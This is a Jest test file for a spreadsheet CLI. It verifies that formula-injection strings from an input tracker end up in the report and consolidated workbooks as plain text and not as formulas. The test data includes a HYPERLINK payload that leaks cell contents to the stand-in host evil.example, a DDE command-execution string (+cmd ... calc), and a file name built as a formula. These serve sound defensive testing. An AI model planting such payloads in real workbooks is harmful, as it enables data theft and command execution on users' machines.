// Formula injection: every formula-like string from a tracker lands in the CLI's output workbooks as text, verbatim.
import ExcelJS from "exceljs";
import JSZip from "jszip";
import * as fs from "fs";
import * as path from "path";
import { cleanText } from "../../src/core/text";
import { HostileManifest } from "../../scripts/make-hostile";
import { cli, sha256, tempDir } from "../helpers/cli";
import {
  expectCleanOutcome,
  generateCorpus,
  openZip,
  partsWithFormulas,
  textStrings,
  xmlParts,
} from "./outcome";

describe("formula-like text from a tracker is written as text", () => {
  const corpus = tempDir("pyp-inject-");
  const outDir = tempDir("pyp-inject-out-");
  let manifest: HostileManifest;
  /** The injection tracker under a file name that is itself a formula (file names land in the Validation sheet). */
  let input: string;

  beforeAll(() => {
    manifest = generateCorpus(corpus);
    input = path.join(corpus, "=1+2 @evil.xlsx");
    fs.copyFileSync(path.join(corpus, "injection.xlsx"), input);
  }, 120_000);

  afterAll(() => {
    fs.rmSync(corpus, { recursive: true, force: true });
    fs.rmSync(outDir, { recursive: true, force: true });
  });

  /**
   * Each planted string as the output keeps it: a project id keeps its inner tab and CR verbatim;
   * names are trimmed like every cell; remarks are quoted in memo prose with whitespace runs folded.
   */
  function plantedTexts(): string[] {
    return manifest.injection_strings.flatMap((s) => [
      `ID${s}`,
      cleanText(s),
      `remark ${s}`.replace(/\s+/g, " "),
    ]);
  }

  async function expectTextOnly(out: string): Promise<void> {
    const parts = await xmlParts(await openZip(out));
    expect(partsWithFormulas(parts)).toEqual([]);
    const strings = new Set(textStrings(parts));
    const missing = plantedTexts().filter(
      (t) => ![...strings].some((s) => s === t || s.includes(t))
    );
    expect(missing).toEqual([]);
  }

  it("control: the checks find a formula, and read shared strings, when a writer does put them there", async () => {
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet("S");
    sheet.getCell("A1").value = { formula: "1+1", result: 2 };
    sheet.getCell("A2").value = "ID&<x>";
    const parts = await xmlParts(await JSZip.loadAsync(await workbook.xlsx.writeBuffer()));
    expect(partsWithFormulas(parts)).toEqual(["xl/worksheets/sheet1.xml"]);
    expect(textStrings(parts)).toContain("ID&<x>");
  });

  it.each(["th", "en"])(
    "report --lang %s: no formula anywhere, each string present verbatim",
    async (lang) => {
      const before = sha256(input);
      const out = path.join(outDir, `report-${lang}.xlsx`);
      const run = await cli(
        "report",
        input,
        "--out",
        out,
        "--lang",
        lang,
        "--json",
        "--today",
        "2026-11-25"
      );
      expectCleanOutcome(run, input, "json");
      expect(run.code).toBe(0);
      await expectTextOnly(out);
      // Project names of included rows stand alone in a cell (linkage map), not only inside messages.
      const strings = textStrings(await xmlParts(await openZip(out)));
      expect(strings).toEqual(
        expect.arrayContaining([
          '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
          "+cmd|' /C calc'!A0",
          "=1+1",
        ])
      );
      expect(sha256(input)).toBe(before);
    }
  );

  it("the sheet and file names of the tracker land as text too", async () => {
    const out = path.join(outDir, "report-names.xlsx");
    await cli("report", input, "--out", out, "--lang", "en", "--json");
    const parts = await xmlParts(await openZip(out));
    const strings = textStrings(parts);
    expect(strings.some((s) => s.includes("=SUM(1+1)"))).toBe(true);
    expect(strings.some((s) => s.includes("=1+2 @evil.xlsx"))).toBe(true);
  });

  it("consolidate: the master tracker holds the strings as text cells, never formulas", async () => {
    const out = path.join(outDir, "master.xlsx");
    const run = await cli("consolidate", input, "--out", out, "--json");
    expectCleanOutcome(run, input, "json");
    expect(run.code).toBe(0);
    await expectTextOnly(out);
  });

  it("check --json reports the strings as data, unchanged", async () => {
    const run = await cli("check", input, "--json");
    const outcome = expectCleanOutcome(run, input, "json");
    const values = ((outcome.kind === "json" ? outcome.doc.issues : []) as { value: string }[]).map(
      (i) => i.value
    );
    expect(values).toContain('=HYPERLINK("http://evil.example/?leak="&A1,"click")');
  });
});
